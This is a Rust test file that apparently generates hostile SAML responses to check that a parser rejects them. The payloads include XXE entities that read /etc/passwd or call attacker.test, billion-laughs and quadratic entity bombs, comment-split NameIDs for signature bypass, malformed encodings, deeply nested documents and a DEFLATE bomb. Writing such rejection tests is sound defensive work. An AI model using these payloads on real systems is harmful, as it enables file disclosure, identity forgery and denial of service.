//! Tricks on the parser: declarations, entities, other encodings, and documents that cost much.

use std::io::Write as _;

use base64::{Engine as _, engine::general_purpose::STANDARD};
use flate2::{Compression, write::DeflateEncoder};

use super::{ADA, Attack, Stage, extended, replaced, row};
use crate::corpus::form_value;

pub(super) fn attacks(stage: &Stage<'_>, all: &mut Vec<Attack>) {
    declarations(stage, all);
    split_names(stage, all);
    malformed(stage, all);
    encodings(stage, all);
    costly(stage, all);
}

fn honest(stage: &Stage<'_>) -> String {
    stage.ada().assertion_signed(&stage.signer())
}

fn declarations(stage: &Stage<'_>, all: &mut Vec<Attack>) {
    let response = honest(stage);
    let subset = |inside: &str| format!("<!DOCTYPE x [{inside}]>{response}");
    let used = replaced(&response, &format!(">{ADA}"), ">&e;");
    let xxe = |url: &str| format!("<!DOCTYPE x [<!ENTITY e SYSTEM \"{url}\">]>{used}");
    row(all, "DTD", "dtd_forbidden")
        .add("a bare DOCTYPE", format!("<!DOCTYPE x>{response}"))
        .add("XXE, file", xxe("file:///etc/passwd"))
        .add("XXE, http", xxe("http://attacker.test/"))
        .add("parameter entity", subset("<!ENTITY % e SYSTEM \"http://attacker.test/\">%e;"))
        .add(
            "external subset",
            format!("<!DOCTYPE x SYSTEM \"http://attacker.test/x.dtd\">{response}"),
        )
        .add("ATTLIST defaults", subset("<!ATTLIST x ID CDATA \"_assertion\">"))
        .add(
            "prefix redeclared",
            subset("<!ATTLIST saml:Assertion xmlns:saml CDATA #FIXED \"urn:other\">"),
        )
        .add("DOCTYPE inside", replaced(&response, "<samlp:Status>", "<!DOCTYPE x><samlp:Status>"))
        .add("behind a byte order mark", format!("\u{feff}<!DOCTYPE x>{response}"));
    let mut laughs = "<!ENTITY a0 \"ha\">".to_owned();
    for nth in 1..10 {
        let inside = format!("&a{};", nth - 1).repeat(10);
        laughs = format!("{laughs}<!ENTITY a{nth} \"{inside}\">");
    }
    let quadratic = format!("<!ENTITY e \"{}\">", "a".repeat(50_000));
    let often = replaced(&response, &format!(">{ADA}"), &format!(">{}", "&e;".repeat(10_000)));
    row(all, "entity blow-up", "dtd_forbidden")
        .add("billion laughs", format!("<!DOCTYPE x [{laughs}]>{}", used.replace("&e;", "&a9;")))
        .add("quadratic", format!("<!DOCTYPE x [{quadratic}]>{often}"));
}

/// The name, split by nodes that some readers skip.
fn split_names(stage: &Stage<'_>, all: &mut Vec<Attack>) {
    let after = |name: &str| replaced(&honest(stage), &format!(">{ADA}"), &format!(">{name}"));
    let before = |name: &str| {
        let mut answer = stage.ada();
        answer.subject = replaced(&answer.subject, &format!(">{ADA}<"), &format!(">{name}<"));
        answer.assertion_signed(&stage.signer())
    };
    // Somebody has registered this name at the provider: comments are no part of what is signed.
    let registered = replaced(
        &before("ada@acme.test.evil.test"),
        ">ada@acme.test.evil.test",
        ">ada@acme.test<!-- -->.evil.test",
    );
    row(all, "comment in NameID", "mixed_content")
        .harmless("after signing", ADA, after("ada@acme<!-- .evil -->.test"))
        .harmless("after signing, at the front", ADA, after("<!-- eve@ -->ada@acme.test"))
        .harmless("before signing", "ada@acme.test.evil.test", registered);
    row(all, "PI, CDATA, child in NameID", "mixed_content")
        .add_as("PI", "processing_instruction", after("ada@acme<?x y?>.test"))
        .harmless("CDATA", ADA, after("<![CDATA[ada@]]>acme.test"))
        .add("child", before("ada@acme.test<x></x>"))
        .add("a child around it", before("<x>ada@acme.test</x>"));
}

fn malformed(stage: &Stage<'_>, all: &mut Vec<Attack>) {
    let response = honest(stage);
    let form = form_value(&response);
    let plus = form.replace('+', " ").replace('/', "_");
    row(all, "not base64, not XML, cut, empty", "bad_xml")
        .form("not base64", "not_base64", "no base64!".to_owned())
        .form("base64 cut", "not_base64", form[1..].to_owned())
        .form("base64 for addresses", "not_base64", format!("-_{plus}"))
        .add("not XML", "hello")
        .add("cut", &response.as_bytes()[..response.len() - 30])
        .add("cut inside a tag", &response.as_bytes()[..response.find(" ID=").unwrap()])
        .form("empty", "bad_xml", String::new())
        .add("white space", " \n ");
    row(all, "second root, duplicate attribute, undeclared prefix", "bad_xml")
        .add("second root", format!("{response}<x/>"))
        .add("text behind", format!("{response}x"))
        .add("duplicate attribute", replaced(&response, " Version=", " Version=\"2.0\" Version="))
        .add(
            "duplicate attribute by two prefixes",
            extended(&response, "<x xmlns:a=\"u\" xmlns:b=\"u\" a:c=\"\" b:c=\"\"/>"),
        )
        .add("undeclared prefix", extended(&response, "<y:x/>"))
        .add("undeclared prefix on an attribute", extended(&response, "<x y:z=\"\"/>"))
        .add("an entity that nobody declared", replaced(&response, ">ada@", ">&e;@"))
        .add("another version of XML", format!("<?xml version=\"1.1\"?>{response}"));
}

fn encodings(stage: &Stage<'_>, all: &mut Vec<Attack>) {
    let response = honest(stage);
    let utf16: Vec<u8> = response.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let marked: Vec<u8> = [&[0xff, 0xfe], &utf16[..]].concat();
    let with = |bytes: &[u8]| {
        let at = response.find(ADA).unwrap();
        [&response.as_bytes()[..at], bytes, &response.as_bytes()[at..]].concat()
    };
    row(all, "NUL, overlong UTF-8, UTF-16", "not_utf8")
        .add_as("NUL", "bad_xml", with(b"\0"))
        .add_as("NUL as a reference", "bad_xml", with(b"&#0;"))
        .add("overlong UTF-8", with(b"\xc0\xbc"))
        .add("a lone surrogate", with(b"\xed\xa0\x80"))
        .add_as("UTF-16", "bad_xml", utf16)
        .add("UTF-16 with its mark", marked)
        .add(
            "another encoding declared",
            format!("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>{response}"),
        )
        .add("UTF-7 declared", format!("<?xml version=\"1.0\" encoding=\"UTF-7\"?>{response}"));
}

fn costly(stage: &Stage<'_>, all: &mut Vec<Attack>) {
    let response = honest(stage);
    let wide = |what: &str, count: usize| -> String {
        (0..count).map(|nth| what.replace('#', &nth.to_string())).collect()
    };
    let level = format!("<a{}>", wide(" xmlns:a#=\"a\"", 30));
    let nested = format!("{}{}", level.repeat(5), "</a>".repeat(5));
    let one_too_deep = format!("{}{}", "<a>".repeat(47), "</a>".repeat(47));
    let bomb = |bytes: usize| {
        let mut encoder = DeflateEncoder::new(Vec::new(), Compression::best());
        encoder.write_all(response.as_bytes()).unwrap();
        encoder.write_all(&vec![b' '; bytes]).unwrap();
        encoder.finish().unwrap()
    };
    row(all, "deep, wide, huge", "too_complex")
        .add_as("200,000 levels", "too_large", extended(&response, &"<a>".repeat(200_000)))
        .add("30,000 levels", extended(&response, &"<a>".repeat(30_000)))
        .add("49 levels", extended(&response, &one_too_deep))
        .add_as(
            "50,000 attributes",
            "too_large",
            extended(&response, &format!("<a{}/>", wide(" a#=\"\"", 50_000))),
        )
        .add("10,000 attributes", extended(&response, &format!("<a{}/>", wide(" a#=\"\"", 10_000))))
        .add(
            "5,000 namespaces",
            extended(&response, &format!("<a{}/>", wide(" xmlns:a#=\"a\"", 5_000))),
        )
        .add(
            "5,000 namespaces with white space",
            extended(&response, &format!("<a{}/>", wide(" xmlns:a#\n= \"a\"", 5_000))),
        )
        .add("namespaces on every level", extended(&response, &nested))
        .add(
            "a long namespace",
            extended(&response, &format!("<a xmlns:b='{}'/>", "b".repeat(257))),
        )
        .add("20,000 elements", extended(&response, &"<a/>".repeat(20_000)))
        .add_as("300 kB", "too_large", extended(&response, &"a".repeat(300 * 1024)))
        .form("600 kB of base64", "too_large", "A".repeat(600 * 1024))
        // Nothing is inflated: what came is judged as it came.
        .form("a DEFLATE bomb", "not_utf8", STANDARD.encode(bomb(8 << 20)));
}
